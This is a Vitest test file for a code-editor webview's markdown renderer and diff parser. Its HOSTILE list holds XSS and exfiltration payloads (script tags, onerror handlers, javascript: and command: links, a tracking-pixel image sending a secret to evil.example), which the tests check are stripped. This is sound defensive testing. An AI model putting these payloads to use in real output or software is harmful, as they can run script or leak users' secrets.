// @vitest-environment jsdom
/** What a model or a program wrote is shown, and can do nothing. */

import { expect, test } from "vitest";
import { toHtml } from "../../src/webview/markdown";
import { rowsOf, statOf } from "../../src/webview/patch";
import { readable, visible } from "../../src/webview/visible";

const HOSTILE = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "![](https://evil.example/?secret)",
  "![x][1]\n\n[1]: https://evil.example/pixel.png",
  "[run](command:workbench.action.terminal.new)",
  "[run](vscode://agls.agls/x)",
  "[run](javascript:alert(1))",
  "[run](data:text/html,<script>alert(1)</script>)",
  '<iframe src="https://evil.example"></iframe>',
  '<a href="command:x" onclick="alert(1)">x</a>',
  '<style>@import "https://evil.example"</style>',
  '<form action="https://evil.example"><input name=a></form>',
  "<svg><animate onbegin=alert(1)></svg>",
  "```html\n<img src=x onerror=alert(1)>\n```",
  '```"><img src=x onerror=alert(1)>\ncode\n```',
];

test.each(HOSTILE)("harmless: %s", (text) => {
  const page = document.createElement("div");
  page.innerHTML = toHtml(text);
  expect(
    page.querySelectorAll("script, img, iframe, style, form, input, svg, link, object, embed").length,
  ).toBe(0);
  for (const element of page.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      expect(name).toMatch(/^(href|class|start|type|role|aria-label|tabindex)$/);
      if (name === "href") expect(value).toMatch(/^(https?:|mailto:|[^a-z]|[^:]*$)/i);
    }
  }
});

test("Markdown is shown as such, code with its colours and a button to copy it", () => {
  const page = document.createElement("div");
  page.innerHTML = toHtml(
    "# Hi\n\n**bold** and `code`\n\n```python\ndef f(): pass\n```\n\n| a | b |\n|--|--|\n| 1 | 2 |",
  );
  expect(page.querySelector("h1")?.textContent).toBe("Hi");
  expect(page.querySelector("strong")?.textContent).toBe("bold");
  expect(page.querySelector("pre .hljs-keyword")?.textContent).toBe("def");
  expect(page.querySelector(".code button.copy")?.textContent).toBe("Copy");
  const does = (text: string) => {
    page.innerHTML = toHtml(text);
    return [...page.querySelectorAll(".code button")].map(({ textContent }) => textContent);
  };
  expect(does("```sh\nls\n```")).toEqual(["Copy", "Insert", "Terminal"]);
  expect(does("```sh\ncd x\nls\n```")).toEqual(["Copy", "Insert"]); // the first line would run at once
  expect(does("```python\nls\n```")).toEqual(["Copy", "Insert"]);
  page.innerHTML = toHtml("| a | b |\n|--|--|\n| 1 | 2 |");
  expect(page.querySelectorAll("td").length).toBe(2);
});

test("the columns of a table stand where they shall, without a style of their own", () => {
  const html = toHtml("| a | b | c |\n|---|--:|:-:|\n| 1 | 2 | 3 |\n");
  expect(html).toContain('<th>a</th>\n<th class="right">b</th>\n<th class="center">c</th>');
  expect(html).toContain('<td class="right">2</td>');
  expect(html).not.toContain("style");
});

test("a table is scrolled by itself, also by keys", () => {
  const page = document.createElement("div");
  page.innerHTML = toHtml("| a | b |\n|---|---|\n| 1 | 2 |\n\nAnd text.");
  const [scrolled, text] = page.children;
  expect([scrolled?.className, scrolled?.getAttribute("tabindex")]).toEqual(["table", "0"]);
  expect([...(scrolled?.children ?? [])].map(({ tagName }) => tagName)).toEqual(["TABLE"]);
  expect(text?.textContent).toBe("And text.");
});

test("code is scrolled by keys, fenced and indented", () => {
  const page = document.createElement("div");
  for (const text of ["```sh\nls\n```", "```\n<pre>\n```", "    ls"]) {
    page.innerHTML = toHtml(text);
    const found = [...page.querySelectorAll("pre")].map((pre) => [pre.tabIndex, pre.getAttribute("role")]);
    expect(found).toEqual([[0, "group"]]);
    expect(page.querySelector("pre")?.getAttribute("aria-label")).toBe("Code");
  }
});

test("names of files are no links, addresses are", () => {
  const page = document.createElement("div");
  page.innerHTML = toHtml("Change greet.py and notes.md, mail a@b.example, see https://a.example/greet.py");
  expect([...page.querySelectorAll("a")].map((link) => link.getAttribute("href"))).toEqual([
    "https://a.example/greet.py",
  ]);
});

test("half an answer, cut anywhere, is rendered without an error", () => {
  const whole =
    "Text **bold** [link](https://a.example) `code`\n\n```js\nlet a = `x`;\n```\n\n- one\n- two\n";
  for (let end = 0; end <= whole.length; end++) expect(typeof toHtml(whole.slice(0, end))).toBe("string");
});

test("characters that hide or turn others can be seen", () => {
  expect(visible("rm \u202etxt.exe\u200b")).toBe("rm ⟨U+202E⟩txt.exe⟨U+200B⟩");
  expect(toHtml("a\u2066b")).toContain("⟨U+2066⟩");
  expect(visible("Grüße 🙂 e\u0301")).toBe("Grüße 🙂 e\u0301");
});

test("what ordinary writing needs stays as it is in prose and output, and only there", () => {
  const writing = "10\u202f000\u00a0€, \u{1f469}\u200d\u{1f4bb} ☃\ufe0f, \u0645\u06cc\u200c\u062e";
  expect(readable(writing)).toBe(writing);
  expect(toHtml(writing)).toContain(writing.replace("\u00a0", "&nbsp;"));
  expect(visible("rm\u00a0-rf \u3164")).toBe("rm⟨U+00A0⟩-rf ⟨U+3164⟩");
});

test("a unified diff is read row by row", () => {
  const patch =
    "--- a/x\n+++ b/x\n@@ -2,3 +2,3 @@\n same\n-old\n+new\n-- not a header\n\\ No newline at end of file\n";
  expect(rowsOf(patch)).toEqual([
    { kind: "hunk", text: "@@ -2,3 +2,3 @@" },
    { kind: "same", text: "same", old: 2, new: 2 },
    { kind: "del", text: "old", old: 3 },
    { kind: "add", text: "new", new: 3 },
    { kind: "del", text: "- not a header", old: 4 },
    { kind: "hunk", text: "\\ No newline at end of file" },
  ]);
  expect(statOf(patch)).toEqual({ added: 1, removed: 2 });
});

test("a count of empty lines counts", () => {
  const patch = "@@ -1,2 +1,402 @@\n one\n+⟨400 line ends⟩\n two\n";
  expect(rowsOf(patch).at(-1)).toEqual({ kind: "same", text: "two", old: 2, new: 402 });
});

test("code that is wider than the chat is scrolled by keys", () => {
  const page = document.createElement("div");
  page.innerHTML = toHtml("```\nmake all\n```");
  expect(page.querySelector("pre")?.tabIndex).toBe(0);
});
